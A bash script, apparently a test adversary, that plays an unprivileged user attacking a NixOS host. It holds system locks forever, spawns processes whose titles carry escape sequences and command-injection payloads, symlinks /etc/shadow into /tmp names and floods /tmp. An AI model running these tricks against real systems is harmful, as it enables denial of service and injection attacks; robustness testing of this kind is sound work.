# What a user without any right does on a host: bash, as nobody, until it is killed.
cd /
declare -A have
switch='/run/nixos/switch-to-configuration.lock /run/switch-to-configuration.lock'

# Open a file and lock it, shared or else exclusively, for good. A new file of that name is taken too.
take() {
  local file=$1 at fd
  at=$(stat -c '%d:%i' "$file" 2> /dev/null) || return
  [ "${have[$file]-}" != "$at" ] || return
  { exec {fd}< "$file"; } 2> /dev/null || return
  flock -n -s $fd || flock -n -x $fd
  have[$file]=$at
  # Whoever looks for a lock's holders finds a title that tries to be more than one line.
  case " $switch " in
  *" $file "*) (exec -a "$title" sleep 3600 {fd}<&$fd) & ;;
  esac
}

title=$'evil\vstore=0 0 1 1\rrunning=/nix/store/00000000000000000000000000000000-evil\x1c\x1d\x1e\xc2\x85'
title+=$'\xe2\x80\xa8user=1000\nend=\nlacks=\x1b[2J\x1b]0;evil\a$(touch /tmp/evil)`id`'
(exec -a "$title" sleep 3600) &
mkdir -p '/var/tmp/x -> /run/nixos'
for lock in $switch; do
  (exec 7> "/var/tmp/x -> $lock" && exec -a "$title" sleep 3600) 2> /dev/null &
done
for name in orchestrator orchestrator-guard attempt asked guard nix-copy; do
  ln -s /etc/shadow "/tmp/$name" 2> /dev/null
done

number=0
while :; do
  for lock in $switch; do take "$lock"; done
  while IFS= read -r file; do take "$file"; done < <(
    find /run /nix/var /var/lib /boot /home /etc -xdev -type f \
      \( -name '*lock*' -o -name '*mutex*' -o -name '*.pid' -o -name 'attempt*' \) 2> /dev/null
  )
  if [ $number -lt 3000 ]; then
    for _ in {1..200}; do
      number=$((number + 1))
      echo flood > "/tmp/flood-$number-$RANDOM"
    done 2> /dev/null
  fi
  sleep 0.2
done
